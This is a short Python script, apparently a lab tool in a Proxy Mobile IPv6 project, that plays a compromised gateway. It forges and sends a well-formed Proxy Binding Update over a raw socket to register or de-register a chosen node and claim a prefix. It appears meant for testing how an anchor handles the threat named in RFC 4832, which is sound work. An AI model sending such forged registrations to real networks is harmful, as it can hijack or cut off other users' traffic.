# SPDX-License-Identifier: Apache-2.0
"""A gateway that forges registrations: what RFC 4832 section 2.2 fears of a compromised MAG.

    python -m halma.lab.rogue GATEWAY ANCHOR NODE LIFETIME [PREFIX]

Sends one Proxy Binding Update for the node with that identifier from the address GATEWAY, with a lifetime in seconds (0:
de-registration) and, where given, asking for that home network prefix.

Always holds: the message is well-formed, and its timestamp is right: it can be refused only for what it asks.
"""

from __future__ import annotations

import secrets
import socket
import sys
import time
from ipaddress import IPv6Address, IPv6Network

from halma.wire import encode
from halma.wire.messages import BindingUpdate
from halma.wire.numbers import BindingUpdateFlag
from halma.wire.options import (
    AccessTechnologyType,
    HandoffIndicator,
    HomeNetworkPrefix,
    MobileNodeIdentifier,
    Timestamp,
)
from halma.wire.timestamp import to_timestamp

_MOBILITY_HEADER = 135
_NETWORK_ACCESS_IDENTIFIER = 1
_UNKNOWN_HANDOFF, _ETHERNET = 4, 3


def main(arguments: list[str]) -> None:
    """Send it."""
    gateway, anchor = (IPv6Address(text) for text in arguments[:2])
    prefix = IPv6Network(arguments[4]) if len(arguments) > 4 else IPv6Network("::/0")
    flags = BindingUpdateFlag.ACKNOWLEDGE | BindingUpdateFlag.HOME_REGISTRATION | BindingUpdateFlag.PROXY
    options = (
        MobileNodeIdentifier(_NETWORK_ACCESS_IDENTIFIER, arguments[2].encode()),
        HomeNetworkPrefix(prefix.prefixlen, prefix.network_address.packed),
        HandoffIndicator(_UNKNOWN_HANDOFF),
        AccessTechnologyType(_ETHERNET),
        Timestamp(to_timestamp(time.time())),
    )
    message = BindingUpdate(secrets.randbelow(65536), flags, int(arguments[3]) // 4, options)
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, _MOBILITY_HEADER) as raw:
        raw.bind((str(gateway), 0))
        raw.sendto(encode(message, gateway.packed, anchor.packed), (str(anchor), 0))
        time.sleep(0.05)  # the answer finds a socket, and no kernel that complains about it


if __name__ == "__main__":
    main(sys.argv[1:])
